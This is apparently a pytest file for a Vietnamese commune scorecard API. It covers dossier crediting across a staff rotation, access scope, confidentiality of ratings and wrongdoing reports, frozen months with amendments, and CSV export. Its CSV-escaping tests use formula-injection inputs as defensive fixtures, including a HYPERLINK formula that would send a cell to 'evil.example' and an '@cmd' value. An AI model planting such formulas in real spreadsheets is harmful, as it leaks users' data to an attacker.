"""Scorecards through the HTTP API against real PostgreSQL: crediting across a rotation, the
hand-worked figures, scope, evidence confidentiality, explanations, freeze and amendments,
CSV, and the chairs' monthly push.

The world (October 2026, Ba Đình, birth registration 1.001193 — statutory time 1 working day):
P held the service until 15 October 00:00 local, H (the demo account official.badinh) since.

dossier  received      due          completed     credited  outcome   working days taken
A1       Mon 5 Oct     Thu 8 Oct    Wed 7 Oct     P         on time   2 → credit 0
A2       Tue 20 Oct    Fri 23 Oct   Tue 27 Oct    H         late      5 → credit 0
A3       Tue 20 Oct    Thu 22 Oct   Wed 21 Oct    P (named) on time   1 → credit 1
A4       Mon 26 Oct    Wed 28 Oct   still open    H         late      —
A5       Tue 6 Oct     cancelled                  —         ignored
A6       Mon 28 Sep    Fri 2 Oct    Thu 1 Oct     P         on time   3 → credit 0

Ratings: A2 → 2 (H); A3 → 5 (rating linked to H, but A3's handler P is credited); an
unverified 1 (ignored); A1 → 1 held in quarantine (ignored); A6 → 4 released (P).
Feedback forwarded: F1 complaint to H answered on time; F2 report of wrongdoing about H that
reached H and F4 report about H forwarded to the chair, answered on time (reports of
wrongdoing count in no scorecard and are never shown: issue 10, point 5); F3 suggestion to H
open past its deadline (late).

P: progress 100 (3 on time), processing 100·(0+1+0)/3 = 33.33, satisfaction 2/2 = 100,
   feedback not applicable → composite (40·100 + 10·33.33 + 30·100)/80 = 91.67, excellent.
H: progress (0 + 0.75·2)/2 = 75, processing 1 dossier (< 2: insufficient), satisfaction 1 rating
   (< 2: insufficient), feedback 1 of 2 = 50 → weight carried 60 of 100 → (40·75 + 20·50)/60
   = 66.67, completed.
Province reference for 1.001193: on time 3 of 5 = 0.6; satisfied 2 of 3.
Commune: progress (3 + 0.75·2)/5 = 90.
"""

from __future__ import annotations

import asyncio
import csv
import io
import uuid
from datetime import datetime, time, timedelta
from typing import Any

import asyncpg
import msgspec
import pytest
from litestar.testing import AsyncTestClient

from backend.app import create_app
from backend.db import create_pool
from backend.push import LogPush
from backend.services.notifications import deliver_due
from backend.services.scorecard_jobs import queue_chair_digests, recheck_scorecards
from backend.services.scorecards import spreadsheet_text
from backend.settings import Settings
from backend.workdays import LOCAL_TZ
from tests.conftest import TokenFor
from tests.test_ratings import API_KEY, BIRTH

PERIOD = "2026-10"


def local(month: int, day: int, hour: int = 9) -> datetime:
    return datetime(2026, month, day, hour, tzinfo=LOCAL_TZ)


@pytest.fixture
def settings(settings: Settings) -> Settings:
    # Small minimum samples for a small world; every read recomputes an open period; October stays open.
    return msgspec.structs.replace(
        settings,
        scorecard_min_dossiers=2,
        scorecard_min_ratings=2,
        scorecard_min_feedback=1,
        scorecard_refresh=0,
        scorecard_freeze_days=366,
    )


class World(msgspec.Struct):
    sid: int
    p: int
    h: int
    dossiers: dict[str, int]


async def build_world(db: asyncpg.Connection) -> World:
    sid = await db.fetchval(
        "select id from commune_services where commune_code = '00004' and procedure_code = $1", BIRTH
    )
    h = await db.fetchval(
        "select o.id from officials o join users u on u.id = o.user_id where u.username = 'official.badinh'"
    )
    p = await db.fetchval(
        "select official_id from assignments where commune_service_id = $1 and official_id <> $2 limit 1", sid, h
    )
    await db.execute("delete from assignments where commune_service_id = $1", sid)
    await db.execute(
        "insert into assignments (commune_service_id, official_id, valid) values "
        "($1, $2, tstzrange($4, $5, '[)')), ($1, $3, tstzrange($5, null, '[)'))",
        sid,
        p,
        h,
        local(8, 1, 0),
        local(10, 15, 0),
    )
    rows = [
        ("A1", "completed", local(10, 5), local(10, 8, 17), local(10, 7, 10), None, None),
        ("A2", "completed", local(10, 20), local(10, 23, 17), local(10, 27, 10), None, None),
        ("A3", "completed", local(10, 20), local(10, 22, 17), local(10, 21, 10), None, p),
        ("A4", "processing", local(10, 26), local(10, 28, 17), None, None, None),
        ("A5", "cancelled", local(10, 6), local(10, 9, 17), None, local(10, 7), None),
        ("A6", "completed", local(9, 28), local(10, 2, 17), local(10, 1, 10), None, None),
    ]
    dossiers = {}
    for name, status, received, due, done, cancelled, handler in rows:
        dossiers[name] = await db.fetchval(
            """
            insert into dossiers (code, commune_service_id, status, received_at, due_at, completed_at, cancelled_at,
                                  event_at, handling_official_id)
            values ($1, $2, $3, $4, $5, $6, $7, $4, $8) returning id
            """,
            f"SC-{name}-{uuid.uuid4().hex[:6].upper()}",
            sid,
            status,
            received,
            due,
            done,
            cancelled,
            handler,
        )
    citizen = await db.fetchval(
        "insert into citizen_installs (install_id, secret_hash, platform) values ($1, '\\x00', 'android') returning id",
        f"sc-{uuid.uuid4().hex}",
    )
    ratings = [
        ("A2", 2, h, True, None, local(10, 27, 11)),
        ("A3", 5, h, True, None, local(10, 21, 11)),
        (None, 1, h, False, None, local(10, 25, 11)),
        ("A1", 1, p, True, "held", local(10, 7, 11)),
        ("A6", 4, p, True, "released", local(10, 1, 11)),
    ]
    for dossier, score, official, verified, quarantine, served in ratings:
        await db.execute(
            """
            insert into ratings (citizen_id, commune_service_id, commune_code, official_id, dossier_id, verified,
                                 score, channel, served_at, idempotency_key, quarantine, comment)
            values ($1, $2, '00004', $3, $4, $5, $6, 'app', $7, $8, $9, 'Cán bộ Nguyễn Văn A nói chuyện khó chịu')
            """,
            citizen,
            sid,
            official,
            dossiers.get(dossier) if dossier else None,
            verified,
            score,
            served,
            uuid.uuid4().hex,
            quarantine,
        )
    forwards = [
        # (category, feedback about, forwarded to, forwarded, deadline, answered)
        ("complaint", None, h, local(10, 1), local(10, 20, 17), local(10, 15)),
        ("wrongdoing_report", h, h, local(10, 2), local(10, 25, 17), None),
        ("suggestion", None, h, local(10, 3), local(10, 28, 17), None),
        ("wrongdoing_report", h, None, local(10, 4), local(10, 30, 17), local(10, 29)),
    ]
    for category, about, to, forwarded, deadline, answered in forwards:
        feedback_id = await db.fetchval(
            """
            insert into feedback (reference, citizen_id, category, commune_code, official_id, status, body,
                                  is_anonymous)
            values ($1, $2, $3, '00004', $4, $5, 'Nội dung phản ánh của người dân Trần Thị B', false) returning id
            """,
            f"PA-{uuid.uuid4().hex[:8]}",
            citizen,
            category,
            about,
            "answered" if answered else "forwarded",
        )
        await db.execute(
            """
            insert into feedback_forwards (feedback_id, official_id, commune_code, redacted_body, due_at, status,
                                           answered_at, answer, created_at, category)
            values ($1, $2, '00004', 'Nội dung đã che', $3, $4, $5, $6, $7, $8)
            """,
            feedback_id,
            to,
            deadline,
            "answered" if answered else "open",
            answered,
            "Đã trả lời" if answered else None,
            forwarded,
            category,
        )
    return World(sid=sid, p=p, h=h, dossiers=dossiers)


async def officials_page(client: AsyncTestClient[Any], headers: dict[str, str], **params: Any) -> Any:
    response = await client.get("/v1/scorecards", params={"period": PERIOD, **params}, headers=headers)
    assert response.status_code == 200, response.text
    return response.json()


async def card_of(client: AsyncTestClient[Any], headers: dict[str, str], official: int) -> Any:
    page = await officials_page(client, headers, commune="00004")
    card_id = next(i["id"] for i in page["items"] if i.get("official_id") == official)
    response = await client.get(f"/v1/scorecards/{card_id}", headers=headers)
    assert response.status_code == 200, response.text
    return response.json()


async def test_figures_credit_whoever_handled_each_dossier(
    client: AsyncTestClient[Any], db: asyncpg.Connection, headers_for: TokenFor
) -> None:
    world = await build_world(db)
    chair = await headers_for("chair.badinh")

    p = await card_of(client, chair, world.p)
    f = p["figures"]
    assert (f["dossiers_completed"], f["dossiers_due"], f["dossiers_on_time"], f["dossiers_late"]) == (3, 3, 3, 0)
    assert f["progress"]["score"] == 100.0 and f["progress"]["status"] == "ok"
    assert f["processing"]["score"] == pytest.approx(100 / 3) and f["processing_mean_working_days"] == 2.0
    assert f["statutory_mean_working_days"] == 1.0
    assert (f["satisfaction"]["score"], f["satisfaction"]["sample_size"]) == (100.0, 2)
    assert f["mean_score"]["value"] == 4.5
    assert f["feedback"]["status"] == "not_applicable"
    assert f["composite"]["score"] == pytest.approx(91.6667, abs=1e-3) and f["composite"]["band"] == "excellent"
    assert f["composite"]["weight_share"] == pytest.approx(0.8)
    assert f["on_time_fair"] == {"observed": 1.0, "expected": pytest.approx(0.6)}
    assert f["satisfaction_fair"]["expected"] == pytest.approx(2 / 3)
    assert p["official_id"] == world.p and p["period"] == PERIOD and p["period_end"] == "2026-10-31"
    assert p.get("frozen_at") is None and p["amendments"] == []

    h = await card_of(client, chair, world.h)
    f = h["figures"]
    assert (f["dossiers_completed"], f["dossiers_on_time"], f["dossiers_late"]) == (1, 0, 2)
    assert f["progress"]["score"] == 75.0
    assert f["processing"]["status"] == "insufficient" and f["satisfaction"]["status"] == "insufficient"
    assert (f["feedback_answered_on_time"], f["feedback_late"], f["feedback"]["score"]) == (1, 1, 50.0)
    assert f["composite"]["score"] == pytest.approx(66.6667, abs=1e-3) and f["composite"]["band"] == "completed"
    assert f["on_time_fair"] == {"observed": 0.0, "expected": pytest.approx(0.6)}
    # Both composites' intervals are wide on so little data: neither outranks the other for sure.
    assert f["rank"]["of"] >= 2 and f["rank"]["best"] <= f["rank"]["worst"]

    page = await officials_page(client, await headers_for("admin.hanoi"), kind="commune", province="01")
    codes = [item["commune_code"] for item in page["items"]]
    assert codes[0] == "00004" and set(codes) == {"00004", "00070", "00577"}
    commune = (await client.get(f"/v1/scorecards/{page['items'][0]['id']}", headers=chair)).json()["figures"]
    assert commune["progress"]["score"] == 90.0 and commune["dossiers_received"] == 4  # A1–A4 (A6 in September)
    # Reports of wrongdoing (F2, F4) count nowhere, not even for the chair who answered F4; F1 and F3 do.
    assert (commune["feedback_answered_on_time"], commune["feedback_late"]) == (1, 1)
    assert commune["online"]["status"] == "not_applicable"  # the one-stop shop did not report channels


async def test_scope_is_decided_in_the_query(
    client: AsyncTestClient[Any], db: asyncpg.Connection, headers_for: TokenFor
) -> None:
    world = await build_world(db)
    own = await headers_for("official.badinh")
    page = await officials_page(client, own, commune="00004")
    assert [i["official_id"] for i in page["items"]] == [world.h]  # only their own
    chair_page = await officials_page(client, await headers_for("chair.badinh"), commune="00004")
    assert {world.h, world.p} <= {i["official_id"] for i in chair_page["items"]}
    p_id = next(i["id"] for i in chair_page["items"] if i["official_id"] == world.p)
    for reader, status in (
        ("official.badinh", 403),
        ("chair.hoankiem", 403),
        ("admin.hcm", 403),
        ("chair.badinh", 200),
        ("front.badinh", 200),
        ("front.hanoi", 200),
        ("admin.hanoi", 200),
        ("sysadmin", 200),
    ):
        headers = await headers_for(reader)
        for path in ("", "/evidence/late-dossiers", "/evidence/processing", "/evidence/ratings", "/evidence/feedback"):
            response = await client.get(f"/v1/scorecards/{p_id}{path}", headers=headers)
            assert response.status_code == status, (reader, path, response.text)
    assert (await officials_page(client, await headers_for("chair.hoankiem"), commune="00004"))["items"] == []
    ranking = await officials_page(client, await headers_for("chair.badinh"), kind="commune", province="01")
    assert [i["commune_code"] for i in ranking["items"]] == ["00004"]
    assert (await client.get("/v1/scorecards", params={"period": PERIOD, "commune": "00004"})).status_code == 401


async def test_evidence_never_names_who_rated_or_reported(
    client: AsyncTestClient[Any], db: asyncpg.Connection, headers_for: TokenFor
) -> None:
    world = await build_world(db)
    own = await headers_for("official.badinh")
    card_id = (await officials_page(client, own, commune="00004"))["items"][0]["id"]

    late = (await client.get(f"/v1/scorecards/{card_id}/evidence/late-dossiers", headers=own)).json()
    codes = {await db.fetchval("select code from dossiers where id = $1", world.dossiers[n]) for n in ("A2", "A4")}
    assert {i["code"] for i in late["items"]} == codes
    assert next(i for i in late["items"] if i.get("completed_at") is None)["code"].startswith("SC-A4")
    first = await client.get(f"/v1/scorecards/{card_id}/evidence/late-dossiers", params={"limit": 1}, headers=own)
    rest = await client.get(
        f"/v1/scorecards/{card_id}/evidence/late-dossiers",
        params={"limit": 1, "cursor": first.json()["next_cursor"]},
        headers=own,
    )
    assert [i["code"] for i in first.json()["items"] + rest.json()["items"]] == [i["code"] for i in late["items"]]
    assert rest.json().get("next_cursor") is None

    processed = (await client.get(f"/v1/scorecards/{card_id}/evidence/processing", headers=own)).json()["items"]
    # H completed only A2 in October: Tue 20 → Tue 27 Oct is 5 working days against 1 → credit 0.
    assert [(i["code"][:5], i["days_taken"], i["statutory_days"], i["credit"]) for i in processed] == [
        ("SC-A2", 5, 1, 0.0)
    ]
    ratings = (await client.get(f"/v1/scorecards/{card_id}/evidence/ratings", headers=own)).json()
    # Only A2's verified 2: not the unverified 1, not A3's 5 (credited to its handler P).
    assert ratings["total"] == 1 and ratings["by_procedure"][0]["counts"] == [0, 1, 0, 0, 0]
    assert set(ratings["by_procedure"][0]) == {"procedure_code", "procedure_name", "counts"}

    feedback = (await client.get(f"/v1/scorecards/{card_id}/evidence/feedback", headers=own)).json()["items"]
    assert [(i["category"], i["outcome"]) for i in feedback] == [("complaint", "on_time"), ("suggestion", "late")]
    assert all(
        set(i) <= {"forward_id", "category", "forwarded_at", "deadline", "answered_at", "outcome"} for i in feedback
    )

    # No report of wrongdoing in the chair's evidence either; nothing in any answer names a citizen.
    chair = await headers_for("chair.badinh")
    commune_id = (await officials_page(client, chair, kind="commune", commune="00004"))["items"][0]["id"]
    commune_feedback = (await client.get(f"/v1/scorecards/{commune_id}/evidence/feedback", headers=chair)).text
    assert commune_feedback.count("wrongdoing_report") == 0  # F2 and F4 are in no figure
    assert commune_feedback.count("complaint") == 1
    for text in (str(late), str(ratings), str(feedback), commune_feedback):
        assert "Trần Thị B" not in text and "Nguyễn Văn A" not in text and "citizen" not in text


async def test_an_official_explains_their_own_month(
    client: AsyncTestClient[Any], db: asyncpg.Connection, headers_for: TokenFor
) -> None:
    world = await build_world(db)
    own = await headers_for("official.badinh")
    chair = await headers_for("chair.badinh")
    card_id = (await officials_page(client, own, commune="00004"))["items"][0]["id"]
    body = {"body": "Hệ thống một cửa ngừng hoạt động ngày 26–27/10, hồ sơ A4 không thể trả đúng hạn."}
    response = await client.post(f"/v1/scorecards/{card_id}/explanations", json=body, headers=own)
    assert response.status_code == 201, response.text
    shown = (await client.get(f"/v1/scorecards/{card_id}", headers=chair)).json()["explanations"]
    assert [e["body"] for e in shown] == [body["body"]] and shown[0]["author"]
    audit = await db.fetchval(
        "select count(*) from audit_log where action = 'scorecard.explain' and object_id = $1", str(card_id)
    )
    assert audit == 1
    # Not the chair, not on someone else's card, not on a quarter, not empty or with controls.
    assert (await client.post(f"/v1/scorecards/{card_id}/explanations", json=body, headers=chair)).json()[
        "code"
    ] == "explanation_not_allowed"
    p_id = next(
        i["id"] for i in (await officials_page(client, chair, commune="00004"))["items"] if i["official_id"] == world.p
    )
    assert (await client.post(f"/v1/scorecards/{p_id}/explanations", json=body, headers=own)).status_code == 403
    quarter = await client.get("/v1/scorecards", params={"period": "2026-Q4", "commune": "00004"}, headers=own)
    quarter_id = quarter.json()["items"][0]["id"]
    response = await client.post(f"/v1/scorecards/{quarter_id}/explanations", json=body, headers=own)
    assert response.json()["code"] == "explanation_not_allowed"
    for bad in ({"body": ""}, {"body": "   "}, {"body": "a\x01b"}, {"body": "x" * 2001}, {}):
        response = await client.post(f"/v1/scorecards/{card_id}/explanations", json=bad, headers=own)
        assert response.status_code in (400, 422), (bad, response.text)
    assert await db.fetchval("select count(*) from scorecard_explanations") == 1


async def test_an_open_period_follows_the_data(
    client: AsyncTestClient[Any], db: asyncpg.Connection, headers_for: TokenFor
) -> None:
    world = await build_world(db)
    chair = await headers_for("chair.badinh")
    before = await card_of(client, chair, world.h)
    # A4 is completed (late) now: H completed two, the late count stays 2.
    await db.execute(
        "update dossiers set status = 'completed', completed_at = $2 where id = $1",
        world.dossiers["A4"],
        local(10, 29, 10),
    )
    after = await card_of(client, chair, world.h)
    assert before["figures"]["dossiers_completed"] == 1 and after["figures"]["dossiers_completed"] == 2
    assert after["amendments"] == [] and after.get("frozen_at") is None


async def test_a_closed_month_is_frozen_and_corrected_only_by_amendment(
    settings: Settings, db: asyncpg.Connection, headers_for: TokenFor
) -> None:
    world = await build_world(db)
    frozen_settings = msgspec.structs.replace(settings, scorecard_freeze_days=10)  # froze on 11 Nov 00:00 local
    async with AsyncTestClient(app=create_app(frozen_settings)) as client:
        chair = await headers_for("chair.badinh")
        first = await card_of(client, chair, world.h)
        assert first["frozen_at"] is not None and first["freezes_at"] == "2026-11-10T17:00:00Z"

        # A late event through the one-stop shop: A4 completed by P (named), on 29 October.
        code = await db.fetchval("select code from dossiers where id = $1", world.dossiers["A4"])
        response = await client.post(
            "/v1/integrations/dossiers",
            headers=API_KEY,
            json={
                "dossiers": [
                    {
                        "code": code,
                        "commune_code": "00004",
                        "procedure_code": BIRTH,
                        "status": "completed",
                        "received_at": local(10, 26).isoformat(),
                        "due_at": local(10, 28, 17).isoformat(),
                        "completed_at": local(10, 29, 10).isoformat(),
                        "event_at": datetime.now(LOCAL_TZ).isoformat(),
                        "handling_official_id": world.p,
                        "version": 5,
                    }
                ]
            },
        )
        assert response.json()["results"][0]["outcome"] == "updated", response.text
        # No silent change: the frozen record reads as it was.
        assert (await card_of(client, chair, world.h))["figures"] == first["figures"]

        pool = await create_pool(frozen_settings)
        try:
            report = await recheck_scorecards(pool, frozen_settings)
            again = await recheck_scorecards(pool, frozen_settings)
        finally:
            await pool.close()
        assert report.amendments >= 2 and again.amendments == 0  # H and P (and the commune's rank, maybe)
        h = await card_of(client, chair, world.h)
        assert h["frozen_at"] == first["frozen_at"]
        assert h["figures"]["dossiers_late"] == 1 and h["figures"]["progress"]["score"] == 75.0
        [amendment] = h["amendments"]
        assert amendment["changes"]["dossiers_late"] == [2, 1]
        assert "late dossier events" in amendment["reason"] and "hồ sơ cập nhật muộn" in amendment["reason"]
        p = await card_of(client, chair, world.p)
        assert p["figures"]["dossiers_late"] == 1 and p["amendments"][0]["changes"]["dossiers_due"] == [3, 4]
        listed = await officials_page(client, chair, commune="00004")
        assert all(i["frozen"] for i in listed["items"])
        assert {i["official_id"] for i in listed["items"] if i["amended"]} >= {world.h, world.p}
        previous = await db.fetchval(
            "select previous -> 'dossiers_late' from scorecard_amendments where scorecard_id = $1", h["id"]
        )
        assert previous == 2


async def test_bad_input_is_a_problem_never_a_500(
    client: AsyncTestClient[Any], db: asyncpg.Connection, headers_for: TokenFor
) -> None:
    await build_world(db)
    admin = await headers_for("admin.hanoi")
    cases = [
        ({"period": "2026-13", "commune": "00004"}, 400, "invalid_scorecard_period"),
        ({"period": "2026-Q5", "commune": "00004"}, 400, "invalid_scorecard_period"),
        ({"period": "x" * 11, "commune": "00004"}, 400, "invalid_parameter"),
        ({"period": "2099-01", "commune": "00004"}, 422, "period_not_started"),
        ({"period": PERIOD}, 400, "invalid_parameter"),
        ({"period": PERIOD, "commune": "99999"}, 404, "commune_not_found"),
        ({"period": PERIOD, "province": "99", "kind": "commune"}, 404, "province_not_found"),
        ({"period": PERIOD, "commune": "00004", "province": "79"}, 404, "commune_not_found"),
        ({"period": PERIOD, "commune": "00004", "cursor": "!!!"}, 400, "invalid_cursor"),
        ({"period": PERIOD, "commune": "00004", "kind": "district"}, 400, "invalid_parameter"),
    ]
    for params, status, code in cases:
        response = await client.get("/v1/scorecards", params=params, headers=admin)
        assert (response.status_code, response.json()["code"]) == (status, code), (params, response.text)
    assert (await client.get("/v1/scorecards/999999999", headers=admin)).json()["code"] == "scorecard_not_found"
    assert (await client.get("/v1/scorecards/0", headers=admin)).status_code == 400
    response = await client.get("/v1/scorecards/export", params={"period": "2026-1"}, headers=admin)
    assert response.json()["code"] in ("invalid_scorecard_period", "invalid_parameter")


async def test_dossier_events_may_name_the_handler_and_channel(
    client: AsyncTestClient[Any], db: asyncpg.Connection, headers_for: TokenFor
) -> None:
    world = await build_world(db)
    stranger = await db.fetchval("select id from officials where commune_code <> '00004' limit 1")
    base = {
        "commune_code": "00004",
        "procedure_code": BIRTH,
        "status": "received",
        "received_at": local(10, 12).isoformat(),
        "event_at": local(10, 12).isoformat(),
    }
    response = await client.post(
        "/v1/integrations/dossiers",
        headers=API_KEY,
        json={
            "dossiers": [
                {**base, "code": "SC-ONLINE-1", "channel": "online", "handling_official_id": world.p},
                {**base, "code": "SC-DIRECT-1", "channel": "in_person"},
                {**base, "code": "SC-FOREIGN-1", "handling_official_id": stranger},
                {**base, "code": "SC-BADCHAN-1", "channel": "fax"},
            ]
        },
    )
    results = response.json()["results"]
    assert [r["outcome"] for r in results] == ["created", "created", "rejected", "rejected"]
    assert results[2]["problem"]["code"] == "handling_official_unknown"
    stored = await db.fetchrow("select handling_official_id, channel from dossiers where code = 'SC-ONLINE-1'")
    assert (stored["handling_official_id"], stored["channel"]) == (world.p, "online")
    chair = await headers_for("chair.badinh")
    commune_id = (await officials_page(client, chair, kind="commune", commune="00004"))["items"][0]["id"]
    online = (await client.get(f"/v1/scorecards/{commune_id}", headers=chair)).json()["figures"]["online"]
    # Two dossiers reported their channel (the minimum sample here), one of them online: 50.
    assert (online["status"], online["sample_size"], online["score"]) == ("ok", 2, 50.0)


async def test_csv_exports_have_a_bom_and_respect_scope(
    client: AsyncTestClient[Any], db: asyncpg.Connection, headers_for: TokenFor
) -> None:
    await build_world(db)
    response = await client.get(
        "/v1/scorecards/export", params={"period": PERIOD, "province": "01"}, headers=await headers_for("admin.hanoi")
    )
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("ky (period),ma_xa (commune_code)") and len(lines) == 4
    assert lines[1].split(",")[1] == "00004" and "Ba Đình" in lines[1]
    assert 'filename="scorecards-01-2026-10.csv"' in response.headers["content-disposition"]
    officials = await client.get(
        "/v1/scorecards/export",
        params={"period": PERIOD, "commune": "00004"},
        headers=await headers_for("official.badinh"),
    )
    assert len(officials.content.decode("utf-8-sig").splitlines()) == 2  # the header and their own row


@pytest.mark.parametrize(
    ("typed", "cell"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Nguyễn Văn An", "Nguyễn Văn An"),
        ("Phó Chủ tịch = kiêm nhiệm", "Phó Chủ tịch = kiêm nhiệm"),
        (None, ""),
    ],
)
def test_typed_text_stays_text_in_spreadsheets(typed: str | None, cell: str) -> None:
    assert spreadsheet_text(typed) == cell


async def test_an_officials_name_is_never_a_formula_in_the_export(
    client: AsyncTestClient[Any], db: asyncpg.Connection, headers_for: TokenFor
) -> None:
    await build_world(db)
    await db.execute(
        "update officials set full_name = '=HYPERLINK(\"http://evil.example/\"&A1)', position = '@cmd' "
        "where user_id = (select id from users where username = 'official.badinh')"
    )
    response = await client.get(
        "/v1/scorecards/export",
        params={"period": PERIOD, "commune": "00004"},
        headers=await headers_for("official.badinh"),
    )
    assert response.status_code == 200, response.text
    row = next(csv.reader(io.StringIO(response.content.decode("utf-8-sig").splitlines()[1])))
    assert row[3] == '\'=HYPERLINK("http://evil.example/"&A1)' and row[4] == "'@cmd"


async def test_chairs_get_last_months_summary_on_the_first_working_day(
    settings: Settings, db: asyncpg.Connection
) -> None:
    await build_world(db)
    pool = await create_pool(settings)
    try:
        assert await queue_chair_digests(pool, settings, datetime(2026, 11, 3).date()) == []  # not the first
        first = await queue_chair_digests(pool, settings, datetime(2026, 11, 2).date())  # Monday 2 November
        again = await queue_chair_digests(pool, settings, datetime(2026, 11, 2).date())
    finally:
        await pool.close()
    chairs = await db.fetchval("select count(*) from user_roles where role = 'commune_chair'")
    assert len(first) == chairs and again == []
    row = await db.fetchrow(
        """
        select o.body_vi, o.body_en, o.critical, o.data from notification_outbox o
        join users u on u.id = o.user_id where u.username = 'chair.badinh' and o.kind = 'scorecard_digest'
        """
    )
    assert not row["critical"]  # held through quiet hours by the delivery
    assert "tháng 2026-10" in row["body_vi"] and "3/5" in row["body_vi"] and "2026-10" in row["body_en"]
    assert row["data"]["link"].startswith("communepulse://scorecards/")


async def test_concurrent_first_reads_agree(
    client: AsyncTestClient[Any], db: asyncpg.Connection, headers_for: TokenFor
) -> None:
    await build_world(db)
    chair = await headers_for("chair.badinh")
    admin = await headers_for("admin.hanoi")
    pages = await asyncio.gather(
        *(officials_page(client, chair, commune="00004") for _ in range(3)),
        *(officials_page(client, admin, kind="commune", province="01") for _ in range(2)),
    )
    assert pages[0] == pages[1] == pages[2] and pages[3] == pages[4]
    stored = await db.fetchval(
        "select count(*) from scorecards where period_kind = 'month' and period_start = '2026-10-01'"
    )
    distinct = await db.fetchval(
        "select count(distinct (subject_kind, commune_code, coalesce(official_id, 0))) from scorecards "
        "where period_kind = 'month' and period_start = '2026-10-01'"
    )
    assert stored == distinct and stored >= len(pages[0]["items"]) + len(pages[3]["items"])


async def test_an_open_period_is_served_from_store_until_refresh_is_due(
    settings: Settings, db: asyncpg.Connection, headers_for: TokenFor
) -> None:
    world = await build_world(db)
    async with AsyncTestClient(app=create_app(msgspec.structs.replace(settings, scorecard_refresh=3600))) as client:
        chair = await headers_for("chair.badinh")
        before = await card_of(client, chair, world.h)
        await db.execute(
            "update dossiers set status = 'completed', completed_at = $2 where id = $1",
            world.dossiers["A4"],
            local(10, 29, 10),
        )
        assert (await card_of(client, chair, world.h))["figures"] == before["figures"]  # within SCORECARD_REFRESH
        await db.execute("update scorecard_periods set computed_at = computed_at - interval '2 hours'")
        after = await card_of(client, chair, world.h)
        assert after["figures"]["dossiers_completed"] == before["figures"]["dossiers_completed"] + 1
        assert after["computed_at"] > before["computed_at"]


async def test_the_chairs_summary_waits_for_the_end_of_quiet_hours(settings: Settings, db: asyncpg.Connection) -> None:
    await build_world(db)
    chair = await db.fetchval("select id from users where username = 'chair.badinh'")
    await db.execute(
        "insert into devices (user_id, fid, platform, locale, quiet_start, quiet_end) "
        "values ($1, $2, 'android', 'vi', '22:00', '06:00')",
        chair,
        f"fid-{uuid.uuid4().hex}",
    )
    pool = await create_pool(settings)
    try:
        queued = await queue_chair_digests(pool, settings, datetime(2026, 11, 2).date())
        outbox_id = await db.fetchval(
            "select id from notification_outbox where user_id = $1 and kind = 'scorecard_digest'", chair
        )
        assert outbox_id in queued
        push = LogPush()
        # Delivery times after the row was queued (now): 23:00 tomorrow, and 06:00 the day after.
        tomorrow = datetime.now(LOCAL_TZ).date() + timedelta(days=1)
        late_evening = datetime.combine(tomorrow, time(23), tzinfo=LOCAL_TZ)
        morning = datetime.combine(tomorrow + timedelta(days=1), time(6), tzinfo=LOCAL_TZ)
        report = await deliver_due(pool, push, [outbox_id], now=late_evening)
        assert report.deferred == 1 and len(push.sent) == 0
        row = await db.fetchrow("select status, next_attempt_at from notification_outbox where id = $1", outbox_id)
        assert row["status"] == "pending" and row["next_attempt_at"] == morning
        await deliver_due(pool, push, [outbox_id], now=morning)
        assert len(push.sent) == 1 and "2026-10" in push.sent[0].title
    finally:
        await pool.close()
